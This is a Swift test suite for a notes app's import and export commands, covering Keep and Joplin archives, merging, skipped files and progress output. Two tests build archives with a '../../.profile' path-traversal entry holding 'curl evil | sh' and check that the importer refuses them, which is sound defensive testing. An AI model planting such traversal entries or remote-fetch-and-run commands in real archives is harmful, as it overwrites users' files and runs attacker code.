import Foundation
import Testing

@Suite struct InterchangeCommandTests {
    @Test func exportThenImportIntoAnotherStore() throws {
        let source = CLIRunner()
        try source.ok(["folder", "new", "Work"])
        try source.ok(["new", "Plan", "--body", "Ελληνικά **bold**", "--folder", "Work", "--tag", "Q1", "--pin"])
        try source.ok(["new", "Other", "--body", "x"])
        let out = source.directory.appendingPathComponent("export").path
        let exported = try source.ok(["export", "--format", "json", "--out", out])
        #expect(exported == "Exported 2 notes as json (attachment files: 0, folders: 1).")

        let target = CLIRunner()
        let imported = try target.run(["import", out])
        #expect(imported.status == 0)
        #expect(imported.stdout.hasPrefix("Found 2 notes: 2 imported, 0 already here from an earlier import, 0 skipped."))
        #expect(!imported.stderr.contains("\r"), "no progress bar when not on a terminal")
        let again = try target.run(["import", out, "--json"])
        let report = try #require(try again.json() as? [String: Any])
        #expect(report["imported"] as? Int == 0 && report["alreadyPresent"] as? Int == 2 && report["kind"] as? String == "notetaker-json")
        let list = try target.ok(["list", "--folder", "Work"])
        #expect(list.contains("Plan"))
    }

    @Test("a newer export updates the note that changed there, merged with an edit made here, and names it")
    func newerExportUpdates() throws {
        let source = CLIRunner()
        let id = try source.ok(["new", "Plan", "--body", "one\ntwo\nthree"]).trimmingCharacters(in: .whitespacesAndNewlines)
        try source.ok(["new", "Other", "--body", "x"])
        let first = source.directory.appendingPathComponent("first").path
        try source.ok(["export", "--format", "json", "--out", first])
        let target = CLIRunner()
        try target.ok(["import", first])
        try target.ok(["edit", id, "--body", "one\ntwo\nthree\nfour, added here"])

        try source.ok(["edit", id, "--body", "ONE\ntwo\nthree"])
        let second = source.directory.appendingPathComponent("second").path
        try source.ok(["export", "--format", "json", "--out", second])
        let result = try target.run(["import", second])
        #expect(result.status == 0)
        #expect(result.stdout.contains("Found 2 notes: 0 imported, 1 already here from an earlier import, 0 skipped."), "\(result.stdout)")
        #expect(result.stdout.contains("1 note updated: it changed in the export since the last import, and was merged with what changed here."))
        #expect(result.stdout.contains("updated  "))
        #expect(try target.ok(["show", id]).contains("ONE\ntwo\nthree\nfour, added here"))
        let again = try #require(try target.run(["import", second, "--json"]).json() as? [String: Any])
        #expect(again["updated"] as? [String] == [] && again["alreadyPresent"] as? Int == 2)
    }

    @Test func skippedNotesAreListedAndTheStatusSaysSo() throws {
        let runner = CLIRunner()
        let folder = runner.directory.appendingPathComponent("vault")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        try Data("# Fine\n#tagged".utf8).write(to: folder.appendingPathComponent("Fine.md"))
        try Data([0x43, 0x61, 0x66, 0xE9]).write(to: folder.appendingPathComponent("Latin.md"))
        let result = try runner.run(["import", folder.path])
        #expect(result.status == 1)
        #expect(result.stdout.contains("Found 2 notes: 1 imported, 0 already here from an earlier import, 1 skipped."))
        #expect(result.stdout.contains("skipped  Latin.md: the file is not UTF-8 text"))
        #expect(try runner.ok(["list"]).contains("Fine"))
    }

    @Test("a Google Keep Takeout imports from its zip; a zip with a path leaving it is refused, naming the entry")
    func archives() throws {
        let runner = CLIRunner()
        let zip = { (name: String, entries: [String: String]) throws -> String in
            let path = runner.directory.appendingPathComponent(name).path
            let script = "import json, sys, zipfile\nwith zipfile.ZipFile(sys.argv[1], 'w', zipfile.ZIP_DEFLATED) as z:\n"
                + "    for name, text in json.loads(sys.argv[2]).items(): z.writestr(name, text)"
            let listing = String(decoding: try JSONSerialization.data(withJSONObject: entries), as: UTF8.self)
            #expect(try runner.run(["-c", script, path, listing], store: false, executable: URL(fileURLWithPath: "/usr/bin/python3")).status == 0)
            return path
        }
        let note = #"{"title":"Bike","textContent":"Oil the chain","isPinned":true,"labels":[{"name":"Errands"}],"createdTimestampUsec":1700000000000000}"#
        let evil = try zip("evil.zip", ["Takeout/Keep/Bike.json": note, "../../.profile": "curl evil | sh"])
        let refused = try runner.run(["import", evil])
        #expect(refused.status == 1)
        #expect(refused.stderr.contains("its entry '../../.profile' would be written outside the archive's folder"), "\(refused.stderr)")
        #expect(try #require(try runner.run(["list", "--json"]).json() as? [Any]).isEmpty)

        let takeout = try zip("takeout-20261126T101500Z-001.zip", ["Takeout/Keep/Bike.json": note, "Takeout/Keep/Bike.html": "<html></html>"])
        let imported = try runner.run(["import", takeout])
        #expect(imported.status == 0)
        #expect(imported.stdout.hasPrefix("Found 1 note: 1 imported"), "\(imported.stdout)")
        let listed = try #require(try runner.run(["list", "--json"]).json() as? [[String: Any]])
        #expect(listed.map { $0["title"] as? String } == ["Bike"] && listed.first?["tags"] as? [String] == ["Errands"])
    }

    @Test("a Joplin .jex imports through the command line, its report as JSON; a tar with a path leaving it is refused")
    func joplin() throws {
        let runner = CLIRunner()
        let tar = { (name: String, entries: [String: String]) throws -> String in
            let path = runner.directory.appendingPathComponent(name).path
            let script = "import io, json, sys, tarfile\nwith tarfile.open(sys.argv[1], 'w') as t:\n"
                + "    for name, text in json.loads(sys.argv[2]).items():\n"
                + "        data = text.encode(); info = tarfile.TarInfo(name); info.size = len(data); t.addfile(info, io.BytesIO(data))"
            let listing = String(decoding: try JSONSerialization.data(withJSONObject: entries), as: UTF8.self)
            #expect(try runner.run(["-c", script, path, listing], store: false, executable: URL(fileURLWithPath: "/usr/bin/python3")).status == 0)
            return path
        }
        let id = String(repeating: "ab", count: 16)
        let note = "Packing list\n\nTent, stove.\n\nid: \(id)\nparent_id: \ncreated_time: 2023-03-14T09:26:53.000Z\nis_todo: 0\ntype_: 1"
        let evil = try tar("evil.jex", ["\(id).md": note, "../../.profile": "curl evil | sh"])
        let refused = try runner.run(["import", evil])
        #expect(refused.status == 1 && refused.stderr.contains("'../../.profile' would be written outside the archive's folder"), "\(refused.stderr)")
        #expect(try #require(try runner.run(["list", "--json"]).json() as? [Any]).isEmpty)

        let jex = try tar("Joplin Export.jex", ["\(id).md": note])
        let imported = try runner.run(["import", jex, "--json"])
        #expect(imported.status == 0, "\(imported.stderr)")
        let report = try #require(try imported.json() as? [String: Any])
        #expect(report["kind"] as? String == "joplin" && report["imported"] as? Int == 1, "\(report)")
        #expect(try runner.ok(["list"]).contains("Packing list"))
    }

    @Test func badArgumentsAreClearAndChangeNothing() throws {
        let runner = CLIRunner()
        try runner.ok(["new", "Keep", "--body", "x"])
        let taken = runner.directory.appendingPathComponent("taken")
        try FileManager.default.createDirectory(at: taken, withIntermediateDirectories: true)
        try Data("mine".utf8).write(to: taken.appendingPathComponent("file.txt"))
        let exists = try runner.run(["export", "--format", "markdown", "--out", taken.path])
        #expect(exists.status == 1 && exists.stderr.contains("already exists"))
        #expect(try String(contentsOf: taken.appendingPathComponent("file.txt"), encoding: .utf8) == "mine")
        #expect(try runner.run(["export", "--format", "docx", "--out", "x"]).status == 2)
        let unknownTag = try runner.run(["export", "--format", "json", "--out", runner.directory.appendingPathComponent("t").path, "--tag", "nope"])
        #expect(unknownTag.status == 1 && unknownTag.stderr.contains("nope"))
        let nothing = try runner.run(["import", runner.directory.appendingPathComponent("missing").path])
        #expect(nothing.status == 1 && nothing.stderr.contains("no such file or folder"))
        #expect(try runner.ok(["list"]).split(separator: "\n").count == 1)
    }

    @Test func aTerminalGetsAProgressBar() throws {
        let runner = CLIRunner()
        let folder = runner.directory.appendingPathComponent("notes")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        for index in 0..<30 { try Data("Note \(index)".utf8).write(to: folder.appendingPathComponent("\(index).md")) }
        let command = [CLIRunner.executable.path, "import", folder.path, "--store", runner.storePath]
            .map { "'\($0)'" }.joined(separator: " ")
        let terminal = try runner.run(["-q", "-e", "-c", command, "/dev/null"], store: false, executable: URL(fileURLWithPath: "/usr/bin/script"))
        #expect(terminal.status == 0)
        #expect(terminal.stdout.contains("Importing ["), "util-linux's script gives the command a terminal")
        #expect(terminal.stdout.contains("Found 30 notes: 30 imported"))
    }
}
